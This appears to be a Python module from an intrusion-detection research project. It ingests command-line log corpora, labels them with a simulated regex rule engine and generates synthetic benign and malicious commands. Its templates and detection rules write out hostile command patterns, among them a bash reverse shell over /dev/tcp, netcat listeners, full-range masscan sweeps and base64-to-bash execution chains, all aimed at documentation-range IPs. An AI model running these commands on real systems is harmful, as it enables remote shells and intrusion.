"""Command-line corpora: JSONL ingest, de-duplication, synthetic generation.

A corpus is an ordered list of logged command lines, optionally paired with
noisy supervision labels (0/1 from a black-box rule engine) and with ground
truth categories (benign / in-box malicious / out-of-box malicious) that only
exist for synthetic data.

The synthetic generator produces parameterized benign traffic, malicious
templates in two flavors (ones a fixed rule set catches, and near-miss
variants it does not), plus unparsable junk lines, spread over several users
with realistic timestamp gaps. Sensitive-looking values (IPs, ports, hosts)
are drawn from reserved documentation ranges.
"""

from __future__ import annotations

import base64
import json
import logging
import random
import re
from dataclasses import dataclass, field

logger = logging.getLogger(__name__)

TRUTH_BENIGN = "benign"
TRUTH_INBOX = "inbox"
TRUTH_OOB = "oob"
_TRUTH_VALUES = (TRUTH_BENIGN, TRUTH_INBOX, TRUTH_OOB)


class CorpusFormatError(ValueError):
    """Raised when a corpus file is unreadable or mostly malformed."""


@dataclass(frozen=True)
class CommandRecord:
    """One logged command line."""

    record_id: str
    user_id: str
    timestamp: int
    text: str

    def __post_init__(self):
        if not self.text:
            raise ValueError("record text must be non-empty")


@dataclass
class Corpus:
    """Ordered records plus optional per-record labels and ground truth."""

    records: list[CommandRecord]
    labels: dict[str, int] = field(default_factory=dict)
    truth: dict[str, str] = field(default_factory=dict)

    def __post_init__(self):
        ids = {r.record_id for r in self.records}
        if len(ids) != len(self.records):
            raise ValueError("record_id values must be unique within a corpus")
        for rid in self.labels:
            if rid not in ids:
                raise ValueError(f"label refers to unknown record_id {rid!r}")
        for rid, cat in self.truth.items():
            if rid not in ids:
                raise ValueError(f"truth refers to unknown record_id {rid!r}")
            if cat not in _TRUTH_VALUES:
                raise ValueError(f"unknown truth category {cat!r}")

    def __len__(self) -> int:
        return len(self.records)

    def texts(self) -> list[str]:
        return [r.text for r in self.records]


def normalize_text(text: str) -> str:
    """Whitespace-collapse normalization used as the de-duplication key."""
    return " ".join(text.split())


def load_records(path) -> Corpus:
    """Read a JSON Lines corpus file.

    Each line is an object with fields ``record_id``, ``user_id``,
    ``timestamp`` (int), ``text``, and optional ``noisy_label`` (0/1) and
    ``truth`` ("benign" | "inbox" | "oob"). Malformed lines are skipped and
    counted; more than 50% malformed lines aborts, since that signals the
    wrong input format altogether.
    """
    records: list[CommandRecord] = []
    labels: dict[str, int] = {}
    truth: dict[str, str] = {}
    n_bad = 0
    n_lines = 0
    try:
        with open(path, "r", encoding="utf-8") as fh:
            for lineno, line in enumerate(fh, start=1):
                if not line.strip():
                    continue
                n_lines += 1
                try:
                    obj = json.loads(line)
                    if not isinstance(obj, dict):
                        raise TypeError("line is not an object")
                    if not isinstance(obj["text"], str):
                        raise TypeError("text must be a string")
                    rec = CommandRecord(
                        record_id=str(obj["record_id"]),
                        user_id=str(obj["user_id"]),
                        timestamp=int(obj["timestamp"]),
                        text=obj["text"],
                    )
                    if "noisy_label" in obj and obj["noisy_label"] is not None:
                        lab = int(obj["noisy_label"])
                        if lab not in (0, 1):
                            raise ValueError("noisy_label must be 0 or 1")
                        labels[rec.record_id] = lab
                    if "truth" in obj and obj["truth"] is not None:
                        if obj["truth"] not in _TRUTH_VALUES:
                            raise ValueError(f"unknown truth {obj['truth']!r}")
                        truth[rec.record_id] = obj["truth"]
                except (KeyError, TypeError, ValueError) as exc:
                    n_bad += 1
                    logger.warning("skipping malformed line %d of %s: %s", lineno, path, exc)
                    continue
                records.append(rec)
    except OSError as exc:
        raise CorpusFormatError(f"cannot read corpus file {path}: {exc}") from exc

    if n_bad:
        logger.warning("%s: skipped %d of %d malformed lines", path, n_bad, n_lines)
    if n_lines and n_bad * 2 > n_lines:
        raise CorpusFormatError(
            f"{path}: {n_bad}/{n_lines} lines malformed; refusing input (wrong format?)"
        )
    return Corpus(records=records, labels=labels, truth=truth)


def save_records(corpus: Corpus, path) -> None:
    """Write a corpus in the JSON Lines format `load_records` reads."""
    with open(path, "w", encoding="utf-8") as fh:
        for rec in corpus.records:
            obj: dict = {
                "record_id": rec.record_id,
                "user_id": rec.user_id,
                "timestamp": rec.timestamp,
                "text": rec.text,
            }
            if rec.record_id in corpus.labels:
                obj["noisy_label"] = corpus.labels[rec.record_id]
            if rec.record_id in corpus.truth:
                obj["truth"] = corpus.truth[rec.record_id]
            fh.write(json.dumps(obj, ensure_ascii=False, sort_keys=True) + "\n")


def deduplicate(corpus: Corpus) -> Corpus:
    """Keep the first occurrence of each whitespace-normalized text."""
    seen: set[str] = set()
    kept: list[CommandRecord] = []
    for rec in corpus.records:
        key = normalize_text(rec.text)
        if key in seen:
            continue
        seen.add(key)
        kept.append(rec)
    kept_ids = {r.record_id for r in kept}
    return Corpus(
        records=kept,
        labels={k: v for k, v in corpus.labels.items() if k in kept_ids},
        truth={k: v for k, v in corpus.truth.items() if k in kept_ids},
    )


# --------------------------------------------------------------------------
# Simulated supervision source
# --------------------------------------------------------------------------

# Fixed rule set standing in for the black-box commercial rule engine. Each
# rule fires on one family of known-bad command lines; near-miss variants
# (different flags, interpreter, wrapping, or argument scheme) deliberately
# fall through, which is exactly the label-noise regime the detector has to
# cope with.
SUPERVISION_RULES: list[tuple[str, re.Pattern]] = [
    ("nc_listener", re.compile(r"(?:^|[;&|]\s*)nc\s+-lvnp\s+\d+")),
    ("masscan_full_range", re.compile(r"(?:^|[;&|]\s*)masscan\s+\S+\s+-p\s*0-65535")),
    ("bash_reverse_shell", re.compile(r"bash -i >& \S+ 0>&1")),
    ("proxy_export", re.compile(r'^export https_proxy="http:')),
    ("java_b64_exec", re.compile(r"java -jar \S+ -C \"bash -c \{echo,\S+\} \{base64,-d\} \{bash,-i\}\"")),
    ("b64_decode_pipe", re.compile(r"echo \S+ \| base64 -d \| bash(?:\s|$)")),
]


def simulate_commercial_ids(record: CommandRecord | str) -> int:
    """Deterministic stand-in for the noisy supervision source.

    Pattern-matches the raw text against `SUPERVISION_RULES`. It flags the
    known-bad templates and, by construction, misses their out-of-box
    variants, so malicious lines can come back labeled benign.
    """
    text = record.text if isinstance(record, CommandRecord) else record
    for _, pattern in SUPERVISION_RULES:
        if pattern.search(text):
            return 1
    return 0


def apply_supervision(corpus: Corpus) -> Corpus:
    """Return a copy of the corpus with noisy labels from the rule set."""
    labels = {r.record_id: simulate_commercial_ids(r) for r in corpus.records}
    return Corpus(records=list(corpus.records), labels=labels, truth=dict(corpus.truth))


# --------------------------------------------------------------------------
# Synthetic corpus generation
# --------------------------------------------------------------------------

_DIRS = [
    "/tmp", "/var/log", "/opt/app", "/srv/data", "/home/deploy", "/etc/nginx",
    "/usr/local/bin", "/var/lib/docker", "/opt/app/releases", "/srv/backups",
]
_FILES = [
    "app.log", "access.log", "error.log", "config.yaml", "deploy.sh", "notes.txt",
    "metrics.csv", "report.json", "service.conf", "init.sql", "hosts", "build.out",
]
_SERVICES = ["nginx", "sshd", "cron", "redis", "postgres", "kafka", "app-worker"]
_CONTAINERS = ["web-1", "api-2", "worker-3", "cache-1", "ingest-7", "batch-2"]
_NAMESPACES = ["prod", "staging", "batch", "infra"]
_BRANCHES = ["main", "develop", "release-1.4", "hotfix-231"]
_WORDS = [
    "build", "finished", "restarting", "worker", "queue", "drained", "rotating",
    "logs", "deploy", "complete", "cache", "warmup", "done", "syncing", "assets",
]
_SCRIPTS = ["ingest.py", "rotate.py", "export.py", "health.py", "migrate.py"]
_HOSTS = [
    "mirror.example.com", "pkg.example.net", "repo.example.org", "cdn.example.com",
    "build.example.net", "artifacts.example.org",
]
_SH_NAMES = ["install", "setup", "bootstrap", "agent", "provision", "update"]
# Listeners and reverse shells gravitate to a handful of well-worn ports.
_ATTACK_PORTS = [4444, 4445, 1337, 9001, 8081, 8443, 1234, 6666, 31337, 5555]


def _doc_ip(rng: random.Random) -> str:
    net = rng.choice(["192.0.2", "198.51.100", "203.0.113"])
    return f"{net}.{rng.randint(1, 254)}"


def _port(rng: random.Random) -> int:
    if rng.random() < 0.7:
        return rng.choice(_ATTACK_PORTS)
    return rng.randint(1024, 65535)


def _b64_blob(rng: random.Random) -> str:
    raw = bytes(rng.randrange(256) for _ in range(rng.randint(12, 24)))
    return base64.b64encode(raw).decode("ascii")


def _benign_text(rng: random.Random) -> str:
    d = rng.choice(_DIRS)
    f = rng.choice(_FILES)
    makers = [
        lambda: f"ls -la {d}",
        lambda: f"ls {d}",
        lambda: f"cat {d}/{f}",
        lambda: f"tail -n {rng.randint(10, 500)} {d}/{f}",
        lambda: f"head -n {rng.randint(5, 50)} {d}/{f}",
        lambda: f"grep -r {rng.choice(['ERROR', 'WARN', 'timeout', 'refused'])} {d} | wc -l",
        lambda: f"ps aux | grep {rng.choice(_SERVICES)}",
        lambda: "df -h",
        lambda: f"du -sh {d}",
        lambda: "free -m",
        lambda: "uptime",
        lambda: "docker ps -a",
        lambda: f"docker logs {rng.choice(_CONTAINERS)}",
        lambda: f"docker inspect {rng.choice(_CONTAINERS)}",
        lambda: f"kubectl get pods -n {rng.choice(_NAMESPACES)}",
        lambda: "git status",
        lambda: f"git pull origin {rng.choice(_BRANCHES)}",
        lambda: f"git log -n {rng.randint(3, 30)}",
        lambda: f"tar -czf {d}/backup-{rng.randint(1, 99)}.tar.gz {rng.choice(_DIRS)}",
        lambda: f"tar -xzf {d}/{f}.tar.gz -C {d}",
        lambda: f"echo {' '.join(rng.sample(_WORDS, rng.randint(2, 4)))}",
        lambda: f"echo {rng.choice(_WORDS)} >> {d}/{f}",
        lambda: f"curl -fsSL http://{rng.choice(_HOSTS)}/{rng.choice(_SH_NAMES)}.sh | bash",
        lambda: f"curl http://{rng.choice(_HOSTS)}/{rng.choice(_SH_NAMES)}.sh | bash",
        lambda: f"wget -q http://{rng.choice(_HOSTS)}/{rng.choice(_SH_NAMES)}.sh -O /tmp/{rng.choice(_SH_NAMES)}.sh",
        lambda: f"wget http://{rng.choice(_HOSTS)}/{rng.choice(_SH_NAMES)}.sh | bash",
        lambda: f"curl -o /tmp/{f} http://{rng.choice(_HOSTS)}/pkg/{f}",
        lambda: f"python3 {rng.choice(_SCRIPTS)} --batch {rng.randint(1, 64)}",
        lambda: f"systemctl status {rng.choice(_SERVICES)}",
        lambda: f"find {d} -name '*.log' -mtime -{rng.randint(1, 14)}",
        lambda: f"chmod 755 {d}/{rng.choice(_SH_NAMES)}.sh",
        lambda: f"chown deploy:deploy {d}/{f}",
        lambda: f"awk '{{print $1}}' {d}/{f} | sort | uniq -c",
        lambda: "export LANG=en_US.UTF-8",
        lambda: "export PATH=/usr/local/bin:$PATH",
        lambda: f"mkdir -p {d}/archive",
        lambda: f"cp {d}/{f} {d}/{f}.bak",
        lambda: f"mv {d}/{f} {d}/archive/{f}",
        lambda: f"rm -f {d}/{f}.bak",
        lambda: f"sed -i 's/{rng.choice(_WORDS)}/{rng.choice(_WORDS)}/g' {d}/{f}",
        lambda: f"journalctl -u {rng.choice(_SERVICES)} -n {rng.randint(20, 200)}",
    ]
    return rng.choice(makers)()


def _inbox_text(rng: random.Random) -> str:
    makers = [
        lambda: f"nc -lvnp {_port(rng)}",
        lambda: f"masscan {_doc_ip(rng)} -p 0-65535 --rate=1000 >> tmp.txt",
        lambda: f"bash -i >& /dev/tcp/{_doc_ip(rng)}/{_port(rng)} 0>&1",
        lambda: f'export https_proxy="http://{_doc_ip(rng)}:{_port(rng)}"',
        lambda: f'java -jar tmp.jar -C "bash -c {{echo,{_b64_blob(rng)}}} {{base64,-d}} {{bash,-i}}"',
        lambda: f"echo {_b64_blob(rng)} | base64 -d | bash",
    ]
    return rng.choice(makers)()


def _oob_text(rng: random.Random) -> str:
    # Near-miss variants of the in-box families: changed flags, wrapped
    # invocation, changed interpreter or scheme. None of them match the
    # supervision rules.
    makers = [
        lambda: f"nc -ulp {_port(rng)}",
        lambda: f"sh /root/masscan.sh {_doc_ip(rng)} -p 0-65535",
        lambda: f'java -cp tmp.jar "bash=bash -i >& {_doc_ip(rng)}:{_port(rng)}"',
        lambda: f'export https_proxy="socks5://{_doc_ip(rng)}:{_port(rng)}"',
        lambda: f'python3 tmp.py -p "bash -c {{echo,{_b64_blob(rng)}}} {{base64,-d}} {{base,-i}}"',
        lambda: f"printf {_b64_blob(rng)} | base64 --decode | sh",
    ]
    return rng.choice(makers)()


def _invalid_text(rng: random.Random) -> str:
    d1, d2 = rng.choice(_DIRS), rng.choice(_DIRS)
    makers = [
        lambda: f"{d1}/{rng.choice(_SH_NAMES)} -> {d2}/{rng.choice(_SH_NAMES)} ->",
        lambda: f'echo "{rng.choice(_WORDS)}',
        lambda: f"grep {rng.choice(_WORDS)} '{rng.choice(_FILES)}",
        lambda: f"ls {d1} | | wc -l",
        lambda: f"cat {d1}/{rng.choice(_FILES)} &&",
        lambda: f"&& ls {d1}",
    ]
    return rng.choice(makers)()


def generate_synthetic_corpus(
    seed: int,
    n_benign: int,
    n_inbox: int,
    n_oob: int,
    n_invalid: int,
) -> Corpus:
    """Generate a deterministic synthetic corpus with ground truth.

    Records are spread over multiple synthetic users; per-user timestamps
    advance by 1-300 s with occasional gaps over an hour, so that time-window
    features over consecutive commands are exercised. The output order is the
    global timestamp order and record ids are assigned in that order.
    """
    for name, n in [("n_benign", n_benign), ("n_inbox", n_inbox),
                    ("n_oob", n_oob), ("n_invalid", n_invalid)]:
        if n < 0:
            raise ValueError(f"{name} must be >= 0")

    rng = random.Random(seed)
    total = n_benign + n_inbox + n_oob + n_invalid
    # Unparsable junk lines carry no truth entry: they are neither benign nor
    # malicious traffic and never survive preprocessing.
    entries: list[tuple[str | None, str]] = []  # (truth, text)
    entries += [(TRUTH_BENIGN, _benign_text(rng)) for _ in range(n_benign)]
    entries += [(TRUTH_INBOX, _inbox_text(rng)) for _ in range(n_inbox)]
    entries += [(TRUTH_OOB, _oob_text(rng)) for _ in range(n_oob)]
    entries += [(None, _invalid_text(rng)) for _ in range(n_invalid)]
    rng.shuffle(entries)

    n_users = max(1, min(40, total // 50)) if total else 1
    users = [f"user{i:03d}" for i in range(n_users)]
    clock = {u: 1_653_000_000 + 7200 * i for i, u in enumerate(users)}

    stamped: list[tuple[int, str, str | None, str]] = []
    for truth_cat, text in entries:
        user = rng.choice(users)
        step = rng.randint(3600, 10800) if rng.random() < 0.04 else rng.randint(1, 300)
        clock[user] += step
        stamped.append((clock[user], user, truth_cat, text))
    stamped.sort(key=lambda t: (t[0], t[1]))

    records: list[CommandRecord] = []
    truth: dict[str, str] = {}
    for i, (ts, user, truth_cat, text) in enumerate(stamped):
        rid = f"r{i:06d}"
        records.append(CommandRecord(record_id=rid, user_id=user, timestamp=ts, text=text))
        if truth_cat is not None:
            truth[rid] = truth_cat
    return Corpus(records=records, truth=truth)
